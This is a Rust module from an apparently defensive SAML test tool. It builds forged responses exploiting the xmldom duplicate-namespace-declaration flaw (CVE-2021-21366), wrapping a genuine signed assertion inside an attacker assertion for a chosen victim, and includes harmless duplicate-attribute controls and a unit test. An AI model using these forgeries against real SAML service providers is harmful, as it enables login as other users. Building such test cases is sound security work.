//! `duplicate-attribute` (docs/advisories.md S10, the namespace half of xmldom CVE-2021-21366 /
//! GHSA-h6q6-9hqw-rwfv): start tags that carry the same attribute twice.
//!
//! xmldom up to 0.4.0 accepted a duplicated attribute. For a duplicated namespace declaration
//! its three parts disagreed (facts from the 0.4.0 sources, checked against xmldom 0.4.0 from
//! npm): the SAX reader (`sax.js` `appendElement`) walks a tag's attributes from last to first,
//! so the *first* declaration in the text binds the element's and its content's names; the DOM
//! builder (`dom-parser.js` `startElement`, `setAttributeNode` by name) keeps one attribute,
//! with the *last* value; the serialiser (`dom.js` `serializeToString`) writes that attribute
//! and then, because the element's namespace is not the one it just wrote
//! (`needNamespaceDefine`), a second declaration with the element's namespace. Parsed again,
//! the first of those two binds: the element, and everything inside it that uses the prefix,
//! has moved from the first URI to the last. An SP that verifies the first parse and reads a
//! re-parse of its serialisation reads an element the verifier never took for SAML. The fix
//! (0.5.0, merge d4201b9 "throw on duplicate attribute") refuses any duplicated attribute as a
//! fatal error.
//!
//! The forged variants wrap the genuine signed assertion in an evil one for the victim whose
//! start tag declares its prefix (or the default namespace) twice, first bound to a URI that is
//! not SAML's and then to SAML's, and travel in the one EncryptedAssertion like every other
//! wrapping forgery; the controls put a harmless duplicate in a `samlp:Extensions`.

use super::DuplicateAttributeVariant;
use super::namespace::NOT_SAML;
use super::stages::StageContext;
use crate::saml::mint::{Assembly, Fragment, MintError};
use crate::saml::ns;
use crate::saml::response::write_assertion;

/// The prefix of the controls' element.
pub(crate) const PREFIX: &str = "nlx";
/// What the controls' element's namespace is.
pub(crate) const NS: &str = "urn:mock:nemlogin-extension";

/// The assembly-stage variants (the forgeries).
pub(crate) fn assembly(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    variant: DuplicateAttributeVariant,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if asm.fragments.is_empty() {
        return Ok(());
    }
    let genuine = asm.fragments[0].xml.clone();
    let e = cx.evil_assertion(victim, "-evil")?;
    let evil = write_assertion(&e, None);
    let saml_decl = format!(r#"xmlns:saml="{}""#, ns::SAML);
    let evil = match variant {
        // `xmlns:saml` twice on the evil root: first another URI, then SAML's.
        DuplicateAttributeVariant::XmlnsEvilFirst => evil.replacen(
            &saml_decl,
            &format!(r#"xmlns:saml="{NOT_SAML}" {saml_decl}"#),
            1,
        ),
        // The evil assertion written without a prefix, its default namespace declared twice.
        DuplicateAttributeVariant::DefaultXmlnsEvilFirst => evil
            .replace("<saml:", "<")
            .replace("</saml:", "</")
            .replacen(
                &saml_decl,
                &format!(r#"xmlns="{NOT_SAML}" xmlns="{}""#, ns::SAML),
                1,
            ),
        // Document-stage variants; `stages` never routes them here.
        DuplicateAttributeVariant::DefaultXmlnsSameUri
        | DuplicateAttributeVariant::PlainAttribute => return Ok(()),
    };
    let close = match variant {
        DuplicateAttributeVariant::DefaultXmlnsEvilFirst => "</Assertion>",
        _ => "</saml:Assertion>",
    };
    let wrapped = match evil.rfind(close) {
        Some(end) => format!("{}{genuine}{}", &evil[..end], &evil[end..]),
        None => evil,
    };
    asm.fragments[0] = Fragment::assertion(wrapped);
    Ok(())
}

/// The element a control puts in `samlp:Extensions`.
pub(crate) fn element(variant: DuplicateAttributeVariant) -> Option<String> {
    match variant {
        // The same default namespace declared twice: harmless, but not well-formed (XML 1.0
        // "Unique Att Spec").
        DuplicateAttributeVariant::DefaultXmlnsSameUri => Some(format!(
            r#"<LoginHint xmlns="{NS}" xmlns="{NS}">mitid</LoginHint>"#
        )),
        // An ordinary attribute twice.
        DuplicateAttributeVariant::PlainAttribute => Some(format!(
            r#"<{PREFIX}:LoginHint xmlns:{PREFIX}="{NS}" Kind="mitid" Kind="nemid">mitid</{PREFIX}:LoginHint>"#
        )),
        DuplicateAttributeVariant::XmlnsEvilFirst
        | DuplicateAttributeVariant::DefaultXmlnsEvilFirst => None,
    }
}

/// Put a control's element in the Response's `samlp:Extensions` (its schema place, before
/// `samlp:Status`; inside an Extensions another fault wrote).
pub(crate) fn insert(response: &mut String, variant: DuplicateAttributeVariant) {
    let Some(e) = element(variant) else {
        return;
    };
    super::document::insert_in_extensions(response, &e);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_go_in_extensions() {
        for v in [
            DuplicateAttributeVariant::DefaultXmlnsSameUri,
            DuplicateAttributeVariant::PlainAttribute,
        ] {
            let mut r = format!(
                r#"<samlp:Response xmlns:samlp="{}"><samlp:Status/></samlp:Response>"#,
                ns::SAMLP
            );
            insert(&mut r, v);
            assert!(r.contains("<samlp:Extensions><"), "{r}");
            assert!(
                r.find("<samlp:Extensions>") < r.find("<samlp:Status"),
                "{r}"
            );
        }
        // A parser that checks every attribute refuses the plain duplicate.
        let mut r = format!(
            r#"<samlp:Response xmlns:samlp="{}"><samlp:Status/></samlp:Response>"#,
            ns::SAMLP
        );
        insert(&mut r, DuplicateAttributeVariant::PlainAttribute);
        assert!(roxmltree::Document::parse(&r).is_err());
    }
}
